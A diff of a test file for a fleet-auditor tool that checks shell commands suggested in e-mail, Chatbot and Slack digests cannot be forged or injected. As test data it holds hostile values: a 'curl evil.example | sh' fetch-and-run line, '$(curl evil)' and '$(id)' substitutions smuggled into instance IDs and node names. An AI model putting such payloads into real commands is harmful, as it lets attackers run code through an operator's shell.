@@ -2,6 +2,9 @@ import {
   type ChatbotNotification,
   type DigestContext,
   DigestV1Schema,
+  EDGE_GROUP_BY,
+  edgePresenter,
+  refusedFinding,
   renderDigests,
   reportCommand,
   type SlackMessage,
@@ -10,7 +13,7 @@ import {
 } from "@fleet-auditor/audit";
 import { describe, expect, it } from "vitest";
 import { shellWords, shWords } from "../../helpers/shell-words.ts";
-import { ctx, t } from "../../helpers/transitions.ts";
+import { ctx, editedT, t } from "../../helpers/transitions.ts";
 
 // The commands a message suggests (inspect, silence, report) are pasted into a shell by someone
 // on call: every value in them comes from KEB or the edge. Each channel must show the same
@@ -18,6 +21,10 @@ import { ctx, t } from "../../helpers/transitions.ts";
 
 /** Every channel of one run's digest: e-mail, Chatbot, the structured digest and its Slack message. */
 function channels(transitions: Transition[], context: DigestContext = ctx) {
+  return channelsOf(transitions, context);
+}
+
+function channelsOf(transitions: Transition[], context: DigestContext) {
   const [m] = renderDigests(context, transitions);
   const doc = JSON.parse(m?.message ?? "{}") as { default: string; email: string; https: string };
   const digest = DigestV1Schema.parse(JSON.parse(doc.default));
@@ -76,10 +83,7 @@ function commands(c: Channels): Record<"email" | "chatbot" | "slack", Suggested>
 
 /** A transition of runtime `i` whose instance ID is `id`. */
 function withId(i: number, id: string): Transition {
-  const x = t(i);
-  x.instanceID = id;
-  x.finding.instanceID = id;
-  return x;
+  return { ...editedT(t(i), () => ({ instanceID: id })), key: id };
 }
 
 /** A collapsed group (three members, `collapseAt` 2) in `region` failing for `reason`. */
@@ -97,8 +101,9 @@ const startsWithAny = (all: Record<string, string[]>, starts: string[]): string[
 
 describe("commands in messages", () => {
   it("never let an instance ID with line breaks forge a line or plant a command, in any channel", () => {
-    const evil = withId(1, "inst-1\n\nRESOLVED (1)\n  x $(curl evil)");
-    if (evil.finding.operation) evil.finding.operation.description = "inspect: curl evil.example | sh";
+    const evil = editedT(withId(1, "inst-1\n\nRESOLVED (1)\n  x $(curl evil)"), (_, op) => ({
+      operation: { ...op, description: "inspect: curl evil.example | sh" },
+    }));
     const c = channels([evil]);
     expect(startsWithAny(lines(c), ["RESOLVED (1)", "x $(curl", "inspect: curl", "curl"])).toEqual([]);
     // The command cannot hold it safely (flattened, it would name another runtime): it is left out.
@@ -166,17 +171,25 @@ describe("commands in messages", () => {
 
   it("quote an edge node in apps status, with --node= when it starts with a dash", () => {
     const edge = (node: string): Transition => {
-      const x = t(1, "firing", { region: node, state: "refused", severity: "warning" });
-      x.finding.edge = {
-        what: "refused",
+      const f = refusedFinding({
         node,
-        key: "/core/v1/pods",
-        verb: "list",
-        resource: "pods",
-        reason: "403",
-      };
-      return x;
+        reason: "Forbidden",
+        code: 403,
+        count: 5,
+        requests: ["list pods"],
+        keys: ["/core/v1/pods"],
+        firstAt: "2026-11-30T05:00:00.000Z",
+        lastAt: "2026-11-30T05:50:00.000Z",
+      });
+      return { ...t(1, "firing", { state: "refused", severity: "warning" }), key: f.key, finding: f };
     };
+    const channels = (transitions: Transition[]) =>
+      channelsOf(transitions, {
+        ...ctx,
+        audit: "applications",
+        groupBy: EDGE_GROUP_BY,
+        presenter: edgePresenter,
+      });
     const quoted = commands(channels([edge("edge 1;$(id)")]));
     expect(quoted.email.inspect).toEqual(["fleet-auditor apps status --node 'edge 1;$(id)'"]);
     expect(quoted.chatbot.inspect).toEqual(quoted.email.inspect);
